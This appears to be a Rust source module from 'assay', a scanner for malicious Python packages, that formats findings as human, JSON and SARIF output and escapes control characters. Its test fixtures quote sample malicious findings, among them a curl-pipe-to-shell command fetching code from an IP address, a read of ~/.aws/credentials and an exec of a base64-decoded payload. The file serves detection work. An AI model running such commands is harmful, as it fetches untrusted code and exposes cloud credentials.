//! Printers: each output format consumes [`ArtifactReport`]s and writes to
//! any `io::Write`. The library never prints on its own.
//!
//! - [`human`]: for people at a terminal, grouped by artifact, with code
//!   excerpts like a compiler diagnostic.
//! - [`json`]: one versioned JSON document (`docs/json-schema.md`).
//! - [`sarif`]: SARIF 2.1.0 for code-scanning platforms.
//! - [`rules`]: the rule set itself, for `assay rules` and `assay explain`.
//!
//! What the printers share lives here: the [`Summary`] counts, the mapping
//! from [`Severity`] to a SARIF-style [`Level`], the identity of the tool
//! and its rule set, and the helpers that make text from a package safe to
//! show.
//!
//! [`ArtifactReport`]: crate::scan::ArtifactReport

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use std::borrow::Cow;

use crate::finding::{Finding, Severity};
use crate::rules::{RULES, RuleMeta};
use crate::scan::ArtifactReport;
use crate::verdict::VerdictLabel;

pub mod human;
pub mod json;
pub mod rules;
pub mod sarif;

/// The tool's name as reported in JSON and SARIF output.
pub const TOOL_NAME: &str = "assay";

/// The library's version, which is the tool's version.
pub const TOOL_VERSION: &str = env!("CARGO_PKG_VERSION");

/// How loudly a finding should be shown: the three SARIF result levels.
/// Critical and high findings are errors, medium ones warnings, low and
/// info ones notes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Level {
    Note,
    Warning,
    Error,
}

impl Level {
    /// The level a finding of this severity is shown at.
    pub const fn of(severity: Severity) -> Level {
        match severity {
            Severity::Critical | Severity::High => Level::Error,
            Severity::Medium => Level::Warning,
            Severity::Low | Severity::Info => Level::Note,
        }
    }

    /// The SARIF name of the level.
    pub const fn as_str(self) -> &'static str {
        match self {
            Level::Note => "note",
            Level::Warning => "warning",
            Level::Error => "error",
        }
    }
}

/// A finding's message as people read it: with its decoding chain after
/// it, when it has one (`` `builtins.exec` runs … (via base64 → zlib)``).
/// The human, SARIF and HTML printers show this; JSON keeps the two apart.
pub fn message_with_via(finding: &Finding) -> Cow<'_, str> {
    match &finding.via {
        Some(via) => Cow::Owned(format!("{} (via {via})", finding.message)),
        None => Cow::Borrowed(&finding.message),
    }
}

/// Counts over a whole scan, shared by the human summary line and the JSON
/// `summary` object.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Summary {
    /// Artifacts scanned (or attempted).
    pub artifacts: usize,
    /// Artifacts whose verdict is `malicious`.
    pub malicious: usize,
    /// Artifacts whose verdict is `suspicious`.
    pub suspicious: usize,
    /// Artifacts whose verdict is `clean`.
    pub clean: usize,
    /// Artifacts with at least one error: not (fully) scanned. Such an
    /// artifact may also be counted under its verdict, when it has one.
    pub errors: usize,
    /// Findings over all artifacts.
    pub findings: usize,
}

impl Summary {
    /// Counts the verdicts, errors and findings of a scan.
    pub fn of(reports: &[ArtifactReport]) -> Summary {
        let mut summary = Summary::default();
        for report in reports {
            summary.add(report);
        }
        summary
    }

    /// Counts one more artifact.
    pub fn add(&mut self, report: &ArtifactReport) {
        self.artifacts += 1;
        match report.verdict.as_ref().map(|v| v.label) {
            Some(VerdictLabel::Malicious) => self.malicious += 1,
            Some(VerdictLabel::Suspicious) => self.suspicious += 1,
            Some(VerdictLabel::Clean) => self.clean += 1,
            None => {}
        }
        self.errors += usize::from(!report.errors.is_empty());
        self.findings += report.findings.len();
    }
}

/// Identifies the rule set: the tool version plus a short fingerprint of
/// every rule's id, slug, category and severity (`0.1.0+3f2a9c1d`). Two
/// builds that report the same value judge with the same rules.
pub fn rule_set_version() -> String {
    let mut hasher = Sha256::new();
    for rule in RULES {
        let meta = rule.meta();
        for part in [
            meta.id,
            meta.slug,
            meta.category.as_str(),
            meta.severity.as_str(),
        ] {
            hasher.update(part.as_bytes());
            hasher.update([0]);
        }
    }
    let digest = hasher.finalize();
    let fingerprint: String = digest[..4].iter().map(|b| format!("{b:02x}")).collect();
    format!("{TOOL_VERSION}+{fingerprint}")
}

/// What the rule finds, for long descriptions: its `## What it finds`
/// section, or its summary when that section is missing.
pub fn rule_description(meta: &RuleMeta) -> String {
    meta.section("What it finds")
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| meta.summary())
}

/// The name serde gives a unit enum variant (`tar-gz`, `sdist`), for the
/// enums that have no `as_str`.
pub(crate) fn variant_name<T: Serialize>(value: &T) -> String {
    match serde_json::to_value(value) {
        Ok(serde_json::Value::String(name)) => name,
        other => unreachable!("not a unit variant: {other:?}"),
    }
}

/// Makes text from a package safe and readable on one terminal line:
/// control characters (newlines, tabs, escape sequences that could drive
/// the terminal) are shown escaped, and text longer than `width`
/// characters is cut with `…`.
pub fn printable(text: &str, width: usize) -> String {
    let mut out = String::with_capacity(text.len().min(width * 2));
    for (count, c) in text.chars().enumerate() {
        if count == width {
            out.push('…');
            break;
        }
        push_escaped(&mut out, c);
    }
    out
}

/// Escapes control characters without cutting: for text whose length is
/// already bounded (messages, excerpt lines).
pub fn escape_controls(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    text.chars().for_each(|c| push_escaped(&mut out, c));
    out
}

fn push_escaped(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        // Bidirectional overrides can make code read differently from what
        // it does ("Trojan Source"); show them too.
        c if c.is_control() || is_bidi_control(c) => {
            out.extend(c.escape_unicode());
        }
        c => out.push(c),
    }
}

const fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

#[cfg(test)]
pub(crate) mod fixtures {
    //! Hand-built reports shared by the printer tests.

    use std::path::PathBuf;

    use crate::artifact::{ArtifactKind, ContainerFormat};
    use crate::environment::{InstalledOrigin, LocatedBy};
    use crate::finding::{Finding, Location, Severity};
    use crate::python::ExecContext;
    use crate::python::names::Decoder;
    use crate::scan::{ArtifactReport, ScanStats};
    use crate::verdict;
    use crate::via::{Step, Via};

    fn finding(
        rule: &'static str,
        slug: &'static str,
        severity: Severity,
        location: Location,
        message: &str,
    ) -> Finding {
        Finding {
            rule,
            slug,
            severity,
            message: message.to_owned(),
            location,
            context: None,
            excerpt: None,
            decoded: None,
            value_kind: crate::finding::ValueKind::Value,
            via: None,
        }
    }

    /// A malicious sdist, a clean wheel, a suspicious folder with a space in
    /// its name, and a file that could not be read.
    pub(crate) fn reports() -> Vec<ArtifactReport> {
        let mut exec = finding(
            "AY104",
            "exec-decoded-payload",
            Severity::Critical,
            Location::at("evil-1.0/setup.py", 4, 1),
            "exec() runs a base64-decoded payload",
        );
        exec.context = Some(ExecContext::Install);
        exec.excerpt = Some("exec(base64.b64decode(PAYLOAD))".to_owned());
        exec.value_kind = crate::finding::ValueKind::Decoded;
        exec.decoded = Some(
            "import os\nos.system('curl -s http://203.0.113.7/x | sh')\t# \u{1b}[2J and a long tail that goes on and on past the width a terminal line can hold comfortably"
                .to_owned(),
        );
        let mut creds = finding(
            "AY201",
            "cloud-credential-access",
            Severity::High,
            Location::at("evil-1.0/evil/__init__.py", 12, 5),
            "reads ~/.aws/credentials",
        );
        creds.context = Some(ExecContext::Import);
        creds.excerpt = Some("open(os.path.expanduser('~/.aws/credentials')).read()".to_owned());
        // Found in a payload that was decoded twice.
        let decoder = |decoder| Step::Decoder { decoder };
        creds.via = Some(Via::of(decoder(Decoder::Base64)).then(decoder(Decoder::Zlib)));
        let record = finding(
            "AY503",
            "record-mismatch",
            Severity::Medium,
            Location::file("evil-1.0/evil/data.bin"),
            "file is not listed in RECORD",
        );
        let malicious_findings = vec![creds, record, exec];
        let malicious = ArtifactReport {
            target: PathBuf::from("dist/evil-1.0.tar.gz"),
            kind: Some(ArtifactKind::Sdist),
            format: Some(ContainerFormat::TarGz),
            name: Some("evil".to_owned()),
            version: Some("1.0".to_owned()),
            sha256: Some("ab".repeat(32)),
            size: Some(2048),
            stats: ScanStats {
                files: 6,
                python_files: 3,
                python_bytes: 1500,
            },
            verdict: Some(verdict::judge(&malicious_findings)),
            findings: malicious_findings,
            errors: Vec::new(),
            installed: None,
            provenance: None,
            flows: None,
            suppressed: Vec::new(),
        };

        let native = finding(
            "AY502",
            "bundled-native-executable",
            Severity::Info,
            Location::file("fine/_speedups.so"),
            "ships a compiled extension module",
        );
        let clean_findings = vec![native];
        let clean = ArtifactReport {
            target: PathBuf::from("dist/fine-2.0-py3-none-any.whl"),
            kind: Some(ArtifactKind::Wheel),
            format: Some(ContainerFormat::Zip),
            name: Some("fine".to_owned()),
            version: Some("2.0".to_owned()),
            sha256: Some("cd".repeat(32)),
            size: Some(4096),
            stats: ScanStats {
                files: 10,
                python_files: 4,
                python_bytes: 9000,
            },
            verdict: Some(verdict::judge(&clean_findings)),
            findings: clean_findings,
            errors: Vec::new(),
            installed: None,
            provenance: None,
            flows: None,
            suppressed: Vec::new(),
        };

        let mut pth = finding(
            "AY102",
            "startup-execution",
            Severity::High,
            Location::at("odd_pkg.pth", 1, 1),
            "a .pth line imports and runs code at every interpreter start",
        );
        pth.context = Some(ExecContext::Startup);
        pth.excerpt = Some("import odd_pkg; odd_pkg.boot()".to_owned());
        let odd_findings = vec![pth];
        let suspicious = ArtifactReport {
            target: PathBuf::from("src/odd pkg"),
            kind: Some(ArtifactKind::Directory),
            format: Some(ContainerFormat::Directory),
            name: None,
            version: None,
            sha256: None,
            size: Some(300),
            stats: ScanStats {
                files: 2,
                python_files: 1,
                python_bytes: 120,
            },
            verdict: Some(verdict::judge(&odd_findings)),
            findings: odd_findings,
            errors: vec!["odd_pkg/big.py: skipped, larger than --max-file-bytes".to_owned()],
            installed: None,
            provenance: None,
            flows: None,
            suppressed: Vec::new(),
        };

        let unreadable = ArtifactReport::unreadable(
            std::path::Path::new("missing.whl"),
            "cannot read missing.whl: No such file or directory (os error 2)".to_owned(),
        );

        vec![malicious, clean, suspicious, unreadable]
    }

    /// An installed distribution whose `__init__.py` changed after install.
    pub(crate) fn installed() -> ArtifactReport {
        let mut patched = finding(
            "AY503",
            "record-mismatch",
            Severity::High,
            Location::file("requests/__init__.py"),
            "installed file changed after install: requests/__init__.py",
        );
        patched.set_value(
            crate::finding::ValueKind::Hashes,
            Some("expected sha256=AAAA, found sha256=BBBB".to_owned()),
        );
        let installed_findings = vec![patched];
        let site_packages = PathBuf::from("/venv/lib/python3.12/site-packages");
        ArtifactReport {
            target: site_packages.clone(),
            kind: Some(ArtifactKind::Installed),
            format: Some(ContainerFormat::Directory),
            name: Some("requests".to_owned()),
            version: Some("2.32.3".to_owned()),
            sha256: None,
            size: Some(500),
            stats: ScanStats {
                files: 3,
                python_files: 1,
                python_bytes: 400,
            },
            verdict: Some(verdict::judge(&installed_findings)),
            findings: installed_findings,
            errors: Vec::new(),
            provenance: None,
            flows: None,
            suppressed: Vec::new(),
            installed: Some(InstalledOrigin {
                site_packages,
                prefix: PathBuf::from("/venv"),
                located_by: LocatedBy::PyvenvCfg,
                metadata_dir: Some("requests-2.32.3.dist-info".to_owned()),
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn levels_follow_severity() {
        assert_eq!(Level::of(Severity::Critical), Level::Error);
        assert_eq!(Level::of(Severity::High), Level::Error);
        assert_eq!(Level::of(Severity::Medium), Level::Warning);
        assert_eq!(Level::of(Severity::Low), Level::Note);
        assert_eq!(Level::of(Severity::Info), Level::Note);
    }

    #[test]
    fn summary_counts_verdicts_and_errors_separately() {
        let summary = Summary::of(&fixtures::reports());
        assert_eq!(
            summary,
            Summary {
                artifacts: 4,
                malicious: 1,
                suspicious: 1,
                clean: 1,
                errors: 2,
                findings: 5,
            }
        );
    }

    #[test]
    fn printable_escapes_controls_and_cuts() {
        assert_eq!(printable("a\nb\tc\u{1b}[0m", 80), "a\\nb\\tc\\u{1b}[0m");
        assert_eq!(printable("abcdef", 3), "abc…");
        assert_eq!(printable("abc", 3), "abc");
        assert_eq!(escape_controls("x\u{202e}y"), "x\\u{202e}y");
    }

    #[test]
    fn rule_set_version_starts_with_the_tool_version() {
        let version = rule_set_version();
        let (tool, fingerprint) = version.split_once('+').unwrap();
        assert_eq!(tool, TOOL_VERSION);
        assert_eq!(fingerprint.len(), 8);
        assert_eq!(version, rule_set_version());
    }

    #[test]
    fn rule_summary_is_the_first_paragraph() {
        let meta = RuleMeta {
            doc: " A sentence that\n wraps.\n\n ## What it finds\n More.\n",
            ..*RULES[0].meta()
        };
        assert_eq!(&meta.summary(), "A sentence that wraps.");
    }

    #[test]
    fn rule_description_is_the_what_it_finds_section() {
        let meta = RuleMeta {
            doc: " Summary.\n\n ## What it finds\n Calls\n of exec.\n\n ## Why it matters\n Because.\n",
            ..*RULES[0].meta()
        };
        assert_eq!(rule_description(&meta), "Calls\nof exec.");
        let empty = RuleMeta {
            doc: " Summary.\n\n ## What it finds\n ## Why it matters\n",
            ..*RULES[0].meta()
        };
        assert_eq!(rule_description(&empty), "Summary.");
    }

    #[test]
    fn rule_markdown_drops_the_doc_comment_space() {
        for rule in RULES {
            let markdown = rule.meta().markdown();
            assert!(!markdown.starts_with(' '), "{markdown:?}");
            assert!(markdown.contains("## What it finds"));
        }
    }
}
